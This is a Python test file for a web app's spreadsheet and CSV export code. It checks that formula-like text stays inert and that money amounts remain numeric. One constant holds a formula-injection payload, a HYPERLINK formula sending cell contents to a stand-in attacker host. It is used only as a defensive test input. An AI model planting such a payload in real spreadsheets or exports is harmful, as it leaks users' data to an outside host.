"""The one export writer: text stays text (no formula injection), money is a number Excel can add up."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from typing import Any

from openpyxl import load_workbook
from starlette.testclient import TestClient

from matchmaker.web.exports import csv_bytes, xlsx_bytes

ATTACK = '=HYPERLINK("http://evil.example/?"&A2&B2,"点击查看")'


def _sheet_xml(data: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()


def test_text_that_looks_like_a_formula_is_written_as_text_in_xlsx() -> None:
    data = xlsx_bytes("t", ["名称"], [[ATTACK], ["+1+1"], ["@SUM(A1)"]])
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [sheet.cell(r, 1) for r in (2, 3, 4)]
    assert ([c.data_type for c in cells], "<f>" in _sheet_xml(data)) == (["s", "s", "s"], False)


def test_csv_neutralises_every_formula_start_and_keeps_numbers_plain() -> None:
    text = csv_bytes(
        ["a"], [[ATTACK], ["+86 519"], ["-1+2"], ["@x"], ["\t=1"], [Decimal("-3.50")], [-3], ["普通"]]
    )
    rows = [r[0] for r in csv.reader(io.StringIO(text.decode("utf-8-sig")))][1:]
    assert rows == ["'" + ATTACK, "'+86 519", "'-1+2", "'@x", "'\t=1", "-3.50", "-3", "普通"]


def test_money_is_a_number_with_a_format_showing_its_places() -> None:
    data = xlsx_bytes("t", ["元", "亿元"], [[Decimal("1234567.89"), Decimal("0.0123")]])
    sheet = load_workbook(io.BytesIO(data)).active
    yuan, yi = sheet.cell(2, 1), sheet.cell(2, 2)
    assert (yuan.data_type, yuan.number_format, Decimal(str(yuan.value)), yi.number_format) == (
        "n",
        "#,##0.00",
        Decimal("1234567.89"),
        "#,##0.0000",
    )


def test_control_characters_do_not_break_the_download() -> None:
    sheet = load_workbook(io.BytesIO(xlsx_bytes("t", ["a"], [["甲\x01乙"]]))).active
    assert sheet.cell(2, 1).value == "甲乙"


def test_a_need_titled_with_a_formula_stays_text_in_the_organizers_exports(
    client: TestClient, login_as: Any, make: Any
) -> None:
    make.need(make.company(), title=ATTACK)
    login_as("organizer")
    xlsx = client.get("/needs", params={"export": "xlsx"}).content
    sheet = load_workbook(io.BytesIO(xlsx)).active
    title_cell = next(c for row in sheet.iter_rows(min_row=2) for c in row if c.value == ATTACK)
    rows = list(
        csv.reader(io.StringIO(client.get("/needs", params={"export": "csv"}).content.decode("utf-8-sig")))
    )
    assert (title_cell.data_type, "<f>" in _sheet_xml(xlsx), rows[1][1]) == ("s", False, "'" + ATTACK)


def test_contract_amounts_in_the_export_add_up_in_excel(
    client: TestClient, login_as: Any, csrf: Any, make: Any
) -> None:
    buyer = make.company(name="溧阳导出测试有限公司")
    login_as("bureau")
    for number, amount in (("2025320481000777", "100.01"), ("2025320481000778", "0.02")):
        form = {
            "registration_number": number, "title": "智能电网巡检算法开发", "contract_type": "技术开发",
            "seller": "南航天目湖校区", "buyer": buyer.name, "buyer_credit_code": buyer.credit_code,
            "amount_yuan": amount, "signed_on": "2025-02-01", "registered_on": "2025-02-10",
            "field": "电子信息", "town": "溧城街道", "csrf_token": csrf("/contracts/new"),
        }  # fmt: skip
        assert client.post("/contracts/new", data=form, follow_redirects=False).status_code == 303
    sheet = load_workbook(io.BytesIO(client.get("/contracts?export=xlsx").content)).active
    header = [c.value for c in sheet[1]]
    column = header.index("合同成交额（元）") + 1
    amounts = [sheet.cell(r, column) for r in range(2, sheet.max_row + 1)]
    assert (
        [c.data_type for c in amounts],
        sum(Decimal(str(c.value)) for c in amounts[:-1]),
        amounts[-1].value,
    ) == (
        ["n", "n", "n"],
        Decimal("100.03"),
        100.03,
    )
